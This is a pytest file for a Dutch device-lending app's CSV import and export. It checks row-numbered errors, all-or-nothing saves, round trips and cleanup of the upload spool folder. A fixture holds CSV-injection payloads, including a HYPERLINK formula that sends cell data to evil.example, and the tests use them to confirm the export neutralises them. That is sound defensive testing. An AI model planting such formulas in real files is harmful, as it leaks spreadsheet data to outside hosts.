"""Bulk intake from CSV: all errors with row numbers, all rows or none, and a round trip."""

import csv
import io
import os
import tempfile
import time
from pathlib import Path

from sqlalchemy import func, select

from tests.devices.factories import make_device
from uitleen.audit.models import Event
from uitleen.devices import bulk
from uitleen.devices.models import Device, Donor
from uitleen.extensions import db
from uitleen.settings import service as settings

HEADER = (
    "kind,make,model,serial,ram_gb,storage_gb,storage_type,donor,donor_is_organisation,location\n"
)


def write(tmp_path, text: str, name: str = "devices.csv"):
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def count(model) -> int:
    return db.session.scalar(select(func.count()).select_from(model))


def test_import_registers_every_row_with_tags_and_donors(app, tmp_path):
    settings.create_location(None, "Werkplaats Noord")
    path = write(
        tmp_path,
        HEADER
        + "laptop,Lenovo,ThinkPad T470,PF0ABC1,8,256,ssd,Gemeente Zaandam,ja,Werkplaats Noord\n"
        + "laptop,HP,EliteBook 840 G5,5CG8,16,512,nvme,Gemeente Zaandam,ja,\n"
        + "tablet,Samsung,Galaxy Tab A,R52N,,,,,,\n",
    )
    result = app.test_cli_runner().invoke(args=["devices", "import", str(path)])
    assert result.exit_code == 0, result.output
    db.session.expire_all()
    devices = list(db.session.scalars(select(Device).order_by(Device.id)))
    assert [d.asset_tag for d in devices] == ["UIT-00001", "UIT-00002", "UIT-00003"]
    assert devices[0].location.name == "Werkplaats Noord"
    assert devices[0].donor_id == devices[1].donor_id
    assert count(Donor) == 1
    assert all(d.state == "intake" and len(d.public_token) == 20 for d in devices)
    assert devices[0].qr_matrix is None  # made and kept by its first label print
    registered = list(
        db.session.scalars(
            select(Event).where(Event.verb == "device.registered").order_by(Event.id)
        )
    )
    assert {e.subject_id: e.data for e in registered} == {
        str(d.id): {"source": "import", "asset_tag": d.asset_tag} for d in devices
    }
    assert {e.actor_name for e in registered} == {"system"}
    # The next intake continues after the imported block.
    assert make_device().asset_tag == "UIT-00004"


def test_all_errors_are_reported_with_row_numbers_and_nothing_is_saved(app, tmp_path):
    make_device(make="Dell", serial="KNOWN1")
    db.session.commit()
    path = write(
        tmp_path,
        HEADER
        + "laptop,Lenovo,T470,A1,8,256,ssd,,,\n"  # row 2 fine
        + "laptop,,T470,A2,acht,256,ssd,,,\n"  # row 3: no make, bad RAM
        + "fridge,Lenovo,T470,A3,8,256,ssd,,,\n"  # row 4: unknown kind
        + "laptop,Lenovo,T470,a1,8,256,ssd,,,\n"  # row 5: serial repeats row 2
        + "laptop,Dell,Latitude,known1,8,256,ssd,,,\n"  # row 6: known in the database
        + "laptop,HP,840,B1,8,256,ssd,,,Nergens\n",  # row 7: unknown location
    )
    before = count(Device)
    result = app.test_cli_runner().invoke(args=["devices", "import", str(path)])
    assert result.exit_code != 0
    checked = bulk.check(bulk.opener(path))
    found = {(e.row, e.field) for e in checked.errors}
    assert {
        (3, "make"),
        (3, "ram_gb"),
        (4, "kind"),
        (5, "serial"),
        (6, "serial"),
        (7, "location"),
    } <= found
    assert "regel 3" in result.output and "regel 7" in result.output
    db.session.expire_all()
    assert count(Device) == before


def test_missing_columns_are_said_plainly(app, tmp_path):
    path = write(tmp_path, "merk;model\nDell;X\n")
    result = bulk.check(bulk.opener(path))
    assert result.error_count == 1
    assert "make" in result.errors[0].message


def test_upload_page_shows_all_errors_and_saves_nothing(client, login_as, tmp_path):
    login_as("volunteer")
    text = HEADER + "laptop,,X,1,,,,,,\nlaptop,Dell,,2,,,,,,\n"
    response = client.post(
        "/devices/import",
        data={"file": (io.BytesIO(text.encode()), "apparaten.csv")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert '<td data-label="Regel">2</td><td data-label="Kolom">make</td>' in page
    assert '<td data-label="Regel">3</td><td data-label="Kolom">model</td>' in page
    assert count(Device) == 0
    ok = client.post(
        "/devices/import",
        data={"file": (io.BytesIO((HEADER + "laptop,Dell,E7450,Z9,,,,,,\n").encode()), "a.csv")},
        content_type="multipart/form-data",
    )
    assert ok.status_code == 302
    assert count(Device) == 1


def test_export_then_import_round_trips(app, tmp_path):
    settings.create_location(None, "Bibliotheek Oost")
    runner = app.test_cli_runner()
    path = write(
        tmp_path,
        ",".join(bulk.COLUMNS)
        + "\nUIT-00007,laptop,Lenovo,ThinkPad X1,PF1,Intel Core i7-8650U,16,512,nvme,90,14,"
        + "Windows 10 Pro,A,"
        + '"kras, klein",Bakkerij Jansen,ja,ja,Bibliotheek Oost,accu nieuw\n'
        + ",desktop,Dell,OptiPlex 7050,CN0,,8,256,ssd,,,,B,,Piet Pietersen,nee,nee,,\n",
    )
    assert runner.invoke(args=["devices", "import", str(path)]).exit_code == 0
    first = tmp_path / "first.csv"
    assert runner.invoke(args=["devices", "export", str(first)]).exit_code == 0
    rows = list(csv.reader(first.read_text(encoding="utf-8-sig").splitlines()))
    assert rows[0] == list(bulk.COLUMNS)
    assert rows[1][0] == "UIT-00007" and rows[2][0] == "UIT-00008"
    assert rows[1][13] == "kras, klein"

    # Into an empty database and out again: the same file.
    from tests.conftest import empty_all_tables

    empty_all_tables()
    settings.create_location(None, "Bibliotheek Oost")
    db.session.commit()
    assert runner.invoke(args=["devices", "import", str(first)]).exit_code == 0
    second = tmp_path / "second.csv"
    assert runner.invoke(args=["devices", "export", str(second)]).exit_code == 0
    assert second.read_text(encoding="utf-8") == first.read_text(encoding="utf-8")


def test_import_after_existing_tags_skips_past_them(app, tmp_path):
    path = write(tmp_path, "asset_tag,make,model\nUIT-00100,Acer,Aspire\n,Acer,Swift\n")
    assert app.test_cli_runner().invoke(args=["devices", "import", str(path)]).exit_code == 0
    tags = set(db.session.scalars(select(Device.asset_tag)))
    assert "UIT-00100" in tags and len(tags) == 2
    assert make_device().asset_tag > "UIT-00100"


def test_export_page_streams_the_same_columns(client, login_as):
    login_as("volunteer")
    make_device(make="Acer", model="Swift 3", serial="NXH1")
    db.session.commit()
    response = client.get("/devices/export.csv")
    assert response.status_code == 200
    body = response.get_data(as_text=True).lstrip("\ufeff").splitlines()
    rows = list(csv.reader(body, delimiter=";"))  # a Dutch spreadsheet's list separator
    assert rows[0] == list(bulk.COLUMNS)
    assert rows[1][:5] == ["UIT-00001", "laptop", "Acer", "Swift 3", "NXH1"]


# Text a spreadsheet would run as a formula (OWASP CSV injection), one per field.
FORMULAS = {
    "make": '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "model": "@SUM(1)",
    "condition_notes": "+1",
    "notes": "-1",
}


def formula_device():
    make_device(serial="=1+1", **FORMULAS)
    db.session.commit()


def assert_neutralised(rows: list[list[str]]) -> None:
    header, row = rows[0], rows[1]
    for field, value in FORMULAS.items():
        assert row[header.index(field)] == "'" + value, field
    assert row[header.index("serial")] == "'=1+1"
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_export_page_neutralises_formulas(client, login_as):
    login_as("volunteer")
    formula_device()
    response = client.get("/devices/export.csv")
    assert response.status_code == 200
    assert response.get_data().startswith(b"\xef\xbb\xbf")  # the same writer as the reports
    body = io.StringIO(response.get_data(as_text=True)[1:])
    assert_neutralised(list(csv.reader(body, delimiter=";")))


def test_export_command_neutralises_formulas_and_import_reads_them_back(app, tmp_path):
    formula_device()
    runner = app.test_cli_runner()
    out = tmp_path / "devices.csv"
    assert runner.invoke(args=["devices", "export", str(out)]).exit_code == 0
    assert_neutralised(list(csv.reader(io.StringIO(out.read_text("utf-8-sig"), newline=""))))
    stdout = runner.invoke(args=["devices", "export"])
    assert_neutralised(list(csv.reader(io.StringIO(stdout.output.lstrip("\ufeff")))))

    # The apostrophe is the export's, not the data's: a round trip gives the values back.
    from tests.conftest import empty_all_tables

    empty_all_tables()
    assert runner.invoke(args=["devices", "import", str(out)]).exit_code == 0
    device = db.session.scalars(select(Device)).one()
    assert {field: getattr(device, field) for field in FORMULAS} == FORMULAS
    assert device.serial == "=1+1"


# --- the spool folder of uploads -------------------------------------------------------


def upload(client, text: str):
    return client.post(
        "/devices/import",
        data={"file": (io.BytesIO(text.encode()), "apparaten.csv")},
        content_type="multipart/form-data",
    )


def test_uploads_spool_in_the_apps_own_folder_and_leave_nothing(
    app, client, login_as, tmp_path, monkeypatch
):
    system_tmp = tmp_path / "tmp"
    system_tmp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(system_tmp))
    opened = []
    real_opener = bulk.opener

    def watching_opener(path):  # the real opener; it only notes which file it reads
        opened.append(Path(path))
        assert Path(path).is_file()
        return real_opener(path)

    monkeypatch.setattr(bulk, "opener", watching_opener)
    login_as("volunteer")
    assert upload(client, HEADER + "laptop,,X,1,,,,,,\n").status_code == 422
    assert upload(client, HEADER + "laptop,Dell,E7450,Z9,,,,,,\n").status_code == 302

    folder = bulk.spool_dir()
    assert folder == Path(app.instance_path) / "import-spool"
    assert [path.parent for path in opened] == [folder, folder]
    assert folder.stat().st_mode & 0o777 == 0o700  # uploads hold donors' names
    assert list(folder.iterdir()) == [] and list(system_tmp.iterdir()) == []


def test_spool_files_of_interrupted_imports_are_removed_at_start(app_factory, tmp_path):
    folder = tmp_path / "spool"
    folder.mkdir()
    dead = folder / "999999999-k3j4.csv"  # its worker is gone (killed by a timeout)
    live = folder / f"{os.getpid()}-a1b2.csv"  # a worker still importing
    stale = folder / f"{os.getpid()}-old1.csv"  # too old for any import: a pid reused
    other = folder / "notes.txt"
    for path in (dead, live, stale, other):
        path.write_text("serial\n")
    two_days_ago = time.time() - 2 * 86400
    os.utime(stale, (two_days_ago, two_days_ago))

    app_factory(IMPORT_SPOOL_DIR=str(folder))

    assert sorted(p.name for p in folder.iterdir()) == sorted([live.name, other.name])
